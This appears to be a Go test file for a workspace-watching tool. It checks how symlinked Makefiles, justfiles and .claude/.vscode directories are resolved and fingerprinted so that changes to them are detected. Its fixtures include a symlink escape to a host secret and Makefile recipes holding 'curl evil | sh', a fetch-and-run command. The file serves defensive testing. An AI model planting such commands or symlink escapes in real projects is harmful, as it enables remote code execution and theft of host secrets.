package watch

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
)

// TestWatchedLinksResolvedAsTheKernelDoes: what a watched symlink leads to is found as make, CI
// or an editor would find it — link by link, ".." applied to where a link led — and only that
// is fingerprinted behind the link. A chain of 40 links inside the workspace is followed (a
// change at its end is reported), 41 are not; the attack pair of issue 34, which joined as text
// stays in the workspace, leads out through its link to the top and is recorded by its target
// alone; a ".." after a directory link climbs from where that link led.
func TestWatchedLinksResolvedAsTheKernelDoes(t *testing.T) {
	ws, host := t.TempDir(), t.TempDir()
	write(t, host, map[string]string{"secret": "s3cret"})
	depth := max(9, strings.Count(ws, "/")+1)
	deep := strings.Repeat("a/", depth-1)
	files := map[string]string{
		"real.mk":      "all:",
		"build.mk":     "top:",
		"sub/dir/keep": "x",
		"sub/build.mk": "sub:",
		"d":            "->sub/dir",
		deep + "y":     "->" + strings.TrimSuffix(strings.Repeat("../", depth-1), "/"),
		"justfile":     "->" + deep + "y/" + strings.Repeat("../", depth) + strings.TrimPrefix(filepath.Join(host, "secret"), "/"),
		"Makefile":     "->d/../build.mk",
		"GNUmakefile":  "->c40/l1",
		"makefile":     "->c41/l1",
	}
	for _, n := range []int{40, 41} {
		for i := 1; i < n; i++ { // the watched link is the first of n
			next := fmt.Sprintf("l%d", i+1)
			if i == n-1 {
				next = "../real.mk"
			}
			files[fmt.Sprintf("c%d/l%d", n, i)] = "->" + next
		}
	}
	write(t, ws, files)
	patterns := []string{"Makefile", "GNUmakefile", "makefile", "justfile"}
	before, _ := Files(ws, patterns, nil)
	if got, want := before["justfile"], "symlink:"+files["justfile"][2:]; got != want {
		t.Errorf("the link out through a link = %q, want its target only", got)
	}
	if got := before["makefile"]; got != "symlink:c41/l1" {
		t.Errorf("a chain of 41 links = %q, want its target only", got)
	}

	write(t, ws, map[string]string{"sub/build.mk": "sub:\n\tcurl evil | sh", "real.mk": "all:\n\tcurl evil | sh", "build.mk": "top: changed"})
	write(t, host, map[string]string{"secret": "changed"})
	after, _ := Files(ws, patterns, nil)
	var got []string
	for _, c := range DiffFiles(before, after) {
		got = append(got, c.Name)
	}
	if strings.Join(got, " ") != "GNUmakefile Makefile" {
		t.Errorf("changes = %v, want GNUmakefile (40 links to real.mk) and Makefile (d/.. is sub, not the top)", got)
	}
}

// TestWatchedLinkToADirectoryIsWalked: a watched path that is a symlink to a directory in the
// workspace (.claude -> tools/claude, which the host's Claude Code reads as .claude/) is walked
// where it leads, its files keyed under the link's path, so that a rewrite of
// tools/claude/settings.json is a change of .claude/settings.json; a link inside that leads
// to another directory is walked too, one that leads to a directory holding it (a loop, the
// top) is recorded by its target alone, and a masked file reached through the link stays
// unread.
func TestWatchedLinkToADirectoryIsWalked(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, map[string]string{
		"package.json":               "{}",
		"tools/claude/settings.json": "{}",
		"tools/claude/secret.env":    "TOKEN=1",
		"tools/shared/cmd.md":        "x",
		"tools/claude/commands":      "->../shared",
		"tools/claude/up":            "->..",
		".claude":                    "->tools/claude",
		".vscode":                    "->.",
	})
	masked := func(rel string) bool { return rel == "tools/claude/secret.env" }
	before := Take(Scope{Workspace: ws, Masked: masked})
	for k, want := range map[string]string{
		".claude":                  "symlink:tools/claude\x00dir",
		".claude/commands/cmd.md":  "sha256:",
		".claude/secret.env":       "masked",
		".claude/up":               "symlink:..\x00dir",
		".vscode":                  "symlink:.\x00dir",
		".claude/settings.json":    "sha256:",
		".claude/up/package.json":  "",
		".vscode/package.json":     "",
		".claude/commands/../x.md": "",
	} {
		if got := before.Files[k]; !strings.HasPrefix(got, want) || (want == "" && got != "") {
			t.Errorf("%s = %q, want %q", k, got, want)
		}
	}
	if len(before.Capped) != 0 {
		t.Errorf("capped: %v", before.Capped)
	}
	write(t, ws, map[string]string{"tools/claude/settings.json": `{"hooks": {"SessionStart": []}}`, "tools/shared/cmd.md": "y"})
	var got []string
	for _, c := range DiffFiles(before.Files, Take(Scope{Workspace: ws, Masked: masked}).Files) {
		got = append(got, c.Change+" "+c.Name)
	}
	if strings.Join(got, ", ") != "changed .claude/commands/cmd.md, changed .claude/settings.json" {
		t.Errorf("changes = %v, want .claude/commands/cmd.md and .claude/settings.json", got)
	}
}
